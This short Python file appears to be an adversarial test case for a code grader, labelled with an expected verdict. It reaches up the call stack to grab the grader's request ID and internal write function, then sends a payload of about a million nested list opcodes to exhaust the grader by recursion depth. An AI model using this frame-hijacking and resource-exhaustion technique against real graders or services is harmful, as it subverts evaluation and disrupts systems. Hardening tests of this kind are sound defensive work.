# expect: PE | aim: exhaust the grader by depth | means: lists within lists, in a frame of its own
import sys


def f(host):
    frame = sys._getframe()
    while "request_id" not in frame.f_locals:
        frame = frame.f_back
    payload = b"t\x02\x00\x00\x00t\x00\x00\x00\x00" + b"l\x01\x00\x00\x00" * 1_000_000 + b"N"
    frame.f_globals["_write"](4, frame.f_locals["request_id"], payload)
    return 0
